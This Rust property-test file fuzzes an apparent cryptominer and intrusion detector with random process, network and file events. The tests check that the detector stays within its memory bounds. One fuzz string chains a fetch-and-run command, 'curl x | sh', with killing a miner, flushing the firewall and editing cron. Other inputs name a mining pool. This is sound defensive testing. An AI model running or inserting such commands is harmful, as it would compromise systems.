//! Whatever comes in, nothing panics and nothing grows without end.
#![allow(clippy::unwrap_used, missing_docs)]

mod scene;

use davy_detect::{Detector, Lists, Settings};
use davy_model::{
    CodeAct, Dialogue, Direction, Event, EventKind, Exit, FileAct, FileChange, FileId, FlowAggregate,
    FlowChunk, FlowClose, FlowKey, FlowOpen, FlowReading, FlowVolume, GpuUse, ImageKind, MemoryShape,
    NameAnswer, PersistencePlace, ProcessKey, SampleBatch, Speech, ThreadSample, Timestamp, Transport,
};
use proptest::prelude::*;
use scene::{info, key};

fn small() -> Settings {
    Settings {
        max_processes: 40,
        max_ended: 20,
        max_flows: 16,
        max_threads: 30,
        max_cases: 12,
        max_names: 8,
        max_written: 8,
        max_incidents: 4,
        ..Settings::default()
    }
}

fn check(detector: &Detector) {
    let sizes = detector.sizes();
    let settings = small();
    assert!(detector.processes().living() <= settings.max_processes);
    assert!(sizes.processes <= settings.max_processes + 2 * settings.max_ended + 2, "{sizes:?}");
    assert!(sizes.flows <= settings.max_flows, "{sizes:?}");
    assert!(sizes.threads <= settings.max_threads, "{sizes:?}");
    assert!(sizes.cases <= settings.max_cases, "{sizes:?}");
    assert!(sizes.names <= settings.max_names, "{sizes:?}");
    assert!(sizes.incidents <= settings.max_incidents, "{sizes:?}");
}

fn any_process() -> impl Strategy<Value = ProcessKey> {
    // Few pids and starts, so that pids are reused and keys meet.
    (0u32..60, 0u64..3).prop_map(|(pid, start_ticks)| ProcessKey { pid, start_ticks, boot: 1 })
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z/]{0,12}",
        "(?s).{0,20}",
        Just("/tmp/x".to_owned()),
        Just("[kworker/0:1]".to_owned()),
        Just("nginx".to_owned()),
        Just("/usr/sbin/nginx".to_owned()),
        Just("/usr/bin/sh".to_owned()),
        Just("-c".to_owned()),
        Just("curl x | sh; pkill xmrig; iptables -F; crontab -".to_owned()),
        Just("stratum+tcp://pool:3333".to_owned()),
    ]
}

fn any_kind() -> impl Strategy<Value = EventKind> {
    let program = || {
        (
            any_process(),
            proptest::option::of(any_process()),
            any_text(),
            any_text(),
            proptest::collection::vec(any_text(), 0..5),
            0..3u8,
        )
            .prop_map(|(process, parent, comm, path, args, kind)| {
                let args: Vec<&str> = args.iter().map(String::as_str).collect();
                let mut info = info(process, parent, &comm, &path, &args);
                info.image.kind = [ImageKind::File, ImageKind::Memfd, ImageKind::Deleted][usize::from(kind)];
                Box::new(info)
            })
    };
    let flow = || (0u64..30).prop_map(FlowKey);
    let open =
        (flow(), any::<bool>(), any::<[u8; 4]>(), any::<u16>()).prop_map(|(flow, accepted, ip, port)| {
            FlowOpen {
                flow,
                transport: if port % 2 == 0 { Transport::Tcp } else { Transport::Udp },
                local: (ip, 1).into(),
                remote: (ip, port).into(),
                accepted,
            }
        });
    let chunk = (flow(), any::<bool>(), any::<u32>(), prop_oneof![Just(0u64), any::<u64>(), 0u64..5000])
        .prop_map(|(flow, sent, size, offset)| FlowChunk {
            flow,
            direction: if sent { Direction::Sent } else { Direction::Received },
            size,
            offset,
        });
    let speech = || {
        (any::<[bool; 5]>(), proptest::option::of(any_text())).prop_map(
            |([enters, asks, submits, jobs, accepts], agent)| Speech {
                enters,
                asks,
                submits,
                jobs,
                accepts,
                agent,
                ..Speech::default()
            },
        )
    };
    let name = proptest::option::of(prop_oneof![any_text(), Just("supportxmr.com".to_owned())]);
    let reading = (flow(), any::<[bool; 3]>(), name, proptest::option::of(any_text()), speech(), speech())
        .prop_map(|(flow, [tls, random_start, http], name, request, sent, received)| {
            let dialogue = Dialogue { sent, received, http, ..Dialogue::default() };
            Box::new(FlowReading { flow, tls, name, request, random_start, dialogue })
        });
    let change =
        (any_text(), 0u64..20, 0..4u8, any::<bool>()).prop_map(|(path, ino, act, place)| FileChange {
            path,
            file: FileId { dev: 1, ino },
            act: [
                FileAct::Written,
                FileAct::Renamed { from: None },
                FileAct::Deleted,
                FileAct::AttributesChanged,
            ][usize::from(act)]
            .clone(),
            executable: place,
            code: true,
            place: place.then_some(PersistencePlace::Cron),
        });
    let act =
        (any_process(), any::<u64>(), any::<u8>(), 0..6u8).prop_map(|(target, n, signal, kind)| match kind {
            0 => CodeAct::NamelessExec { memfd: n % 2 == 0 },
            1 => CodeAct::Trace { target, write: n % 2 == 0 },
            2 => CodeAct::ModuleLoad { name: "msr".to_owned() },
            3 => CodeAct::DeviceOpen { major: 202, minor: 0, write: true },
            4 => CodeAct::HugePagesReserved { before: n, now: n.rotate_left(7) },
            _ => CodeAct::Signal { target, signal },
        });
    let memory =
        (any_process(), any::<[u64; 5]>(), any::<u32>()).prop_map(|(process, n, scratchpads)| MemoryShape {
            process,
            resident: n[0],
            hugetlb: n[1],
            largest_anonymous: n[2],
            scratchpads,
            anonymous_executable: n[3],
            writable_executable: n[4],
            nameless_code: 0,
        });
    prop_oneof![
        3 => program().prop_map(EventKind::Exec),
        1 => program().prop_map(EventKind::Found),
        4 => (any_process(), any_text()).prop_map(|(child, comm)| EventKind::Fork { child, comm }),
        1 => any_text().prop_map(|comm| EventKind::Renamed { comm }),
        3 => Just(EventKind::Exit(Exit::default())),
        2 => open.prop_map(EventKind::FlowOpen),
        5 => prop_oneof![chunk.prop_map(EventKind::FlowChunk), reading.prop_map(EventKind::FlowRead)],
        1 => flow().prop_map(|flow| EventKind::FlowClose(FlowClose { flow, volume: FlowVolume::default() })),
        1 => (any::<[u8; 4]>(), any::<u64>()).prop_map(|(ip, flows)| EventKind::Flows(FlowAggregate {
            transport: Transport::Tcp,
            local: (ip, 0).into(),
            remote: (ip, 1).into(),
            accepted: flows % 2 == 0,
            flows,
            volume: FlowVolume::default(),
        })),
        1 => (any_text(), any::<[u8; 4]>()).prop_map(|(name, ip)| EventKind::Name(NameAnswer { name, address: ip.into(), ttl_secs: 1 })),
        2 => change.prop_map(EventKind::File),
        2 => act.prop_map(EventKind::Code),
        1 => memory.prop_map(EventKind::Memory),
        1 => (any_process(), proptest::option::of(any::<u16>())).prop_map(|(process, busy_permille)| {
            EventKind::Gpu(GpuUse { process, device: "0000:01:00.0".to_owned(), busy_permille, memory: 1 << 33 })
        }),
        1 => (any::<u64>(), any::<u64>()).prop_map(|(count, cpu_ns)| EventKind::Syscalls { count, cpu_ns }),
    ]
}

fn any_batch() -> impl Strategy<Value = Vec<ThreadSample>> {
    let thread = (
        any_process(),
        0u32..40,
        any::<u64>(),
        any::<[u64; 2]>(),
        proptest::option::of(any::<u32>()),
        any::<i32>(),
    )
        .prop_map(|(process, tid, cpu, switches, mxcsr, nice)| ThreadSample {
            process,
            tid,
            cpu_ns: cpu >> (cpu % 50),
            voluntary_switches: switches[0],
            involuntary_switches: switches[1],
            mxcsr,
            policy: 5,
            nice,
            allowed_cpus: 1,
        });
    proptest::collection::vec(thread, 0..20)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn any_stream_of_events(
        steps in proptest::collection::vec(
            (proptest::option::of(any_process()), any_kind(), prop_oneof![5 => 0i64..2_000_000, 1 => any::<i64>()], any_batch()),
            0..250,
        )
    ) {
        let mut detector = Detector::new(small(), Lists::builtin());
        detector.guard(ProcessKey { pid: 3, start_ticks: 1, boot: 1 });
        let mut now = Timestamp::from_secs(1_000_000);
        for (i, (process, kind, pause, threads)) in steps.into_iter().enumerate() {
            // Mostly forward; now and then the clock jumps anywhere.
            let time = if pause.unsigned_abs() <= 2_000_000 { Timestamp(now.0.saturating_add(pause)) } else { Timestamp(pause / 4) };
            if pause.unsigned_abs() <= 2_000_000 {
                now = time;
            }
            detector.observe(&Event { time, process, kind });
            if i % 5 == 0 {
                detector.sample(&SampleBatch { time, cpus: 2, sessions: 0, threads });
                let conclusions = detector.conclude(time);
                for finding in &conclusions.findings {
                    prop_assert!((0.0..=1.0).contains(&finding.item.confidence));
                    prop_assert!(!finding.item.summary.is_empty());
                }
                for incident in &conclusions.incidents {
                    prop_assert!(!incident.item.timeline.is_empty());
                    prop_assert!(detector.incident(incident.slot).is_some() || detector.sizes().incidents <= 4);
                }
            }
            check(&detector);
        }
        let _ = detector.busiest(5);
    }
}

#[test]
fn a_million_events_stay_within_bounds() {
    let mut detector = Detector::new(small(), Lists::empty());
    for n in 0..250_000u32 {
        let time = Timestamp(i64::from(n) * 100);
        let child = key(100 + n);
        let parent = key(if n % 3 == 0 { 99 + n } else { 1 });
        detector.observe(&Event {
            time,
            process: Some(parent),
            kind: EventKind::Fork { child, comm: "x".to_owned() },
        });
        let program = info(child, Some(parent), "x", "/tmp/x", &["/tmp/x"]);
        detector.observe(&Event { time, process: Some(child), kind: EventKind::Exec(Box::new(program)) });
        let flow = FlowKey(u64::from(n));
        let chunk = FlowChunk { flow, direction: Direction::Sent, size: 5, offset: 0 };
        detector.observe(&Event { time, process: Some(child), kind: EventKind::FlowChunk(chunk) });
        if n % 7 != 0 {
            detector.observe(&Event { time, process: Some(child), kind: EventKind::Exit(Exit::default()) });
        }
        if n % 1000 == 0 {
            detector.conclude(time);
            check(&detector);
        }
    }
    check(&detector);
    assert!(detector.sizes().processes_refused > 0, "what is turned away is counted");
    assert!(detector.sizes().flows_evicted > 0);
}

#[test]
fn endless_chains_of_parents_are_cut() {
    let mut detector = Detector::new(small(), Lists::empty());
    detector.observe(&Event {
        time: Timestamp(0),
        process: None,
        kind: EventKind::Found(Box::new(info(key(1), None, "x", "/x", &["x"]))),
    });
    for n in 1..10_000u32 {
        let time = Timestamp(i64::from(n));
        detector.observe(&Event {
            time,
            process: Some(key(n)),
            kind: EventKind::Fork { child: key(n + 1), comm: "x".to_owned() },
        });
        detector.observe(&Event { time, process: Some(key(n)), kind: EventKind::Exit(Exit::default()) });
        check(&detector);
    }
    assert_eq!(detector.processes().living(), 1);
}

#[test]
fn a_pid_used_again_is_another_process() {
    let mut detector = Detector::new(small(), Lists::empty());
    let old = ProcessKey { pid: 9, start_ticks: 1, boot: 1 };
    let new = ProcessKey { pid: 9, start_ticks: 2, boot: 1 };
    for (process, path) in [(old, "/usr/bin/a"), (new, "/usr/bin/b")] {
        let program = info(process, None, "x", path, &["x"]);
        detector.observe(&Event {
            time: Timestamp(1),
            process: Some(process),
            kind: EventKind::Exec(Box::new(program)),
        });
    }
    assert_eq!(detector.processes().by_pid(9).unwrap().key, new);
    assert!(!detector.processes().get(&old).unwrap().alive(), "its exit was lost, and is concluded");
}

#[test]
fn ancestors_of_the_living_are_kept() {
    let mut detector = Detector::new(small(), Lists::empty());
    let event = |process, kind| Event { time: Timestamp(1), process: Some(process), kind };
    detector
        .observe(&event(key(1), EventKind::Found(Box::new(info(key(1), None, "init", "/init", &["init"])))));
    detector.observe(&event(key(1), EventKind::Fork { child: key(2), comm: "a".to_owned() }));
    detector.observe(&event(key(2), EventKind::Fork { child: key(3), comm: "b".to_owned() }));
    detector.observe(&event(key(2), EventKind::Exit(Exit::default())));
    for n in 10..500 {
        detector.observe(&event(key(1), EventKind::Fork { child: key(n), comm: "c".to_owned() }));
        detector.observe(&event(key(n), EventKind::Exit(Exit::default())));
    }
    let ancestors: Vec<u32> = detector.processes().ancestors(&key(3)).map(|p| p.key.pid).collect();
    assert_eq!(ancestors, [2, 1]);
    assert!(detector.processes().get(&key(10)).is_none());
}
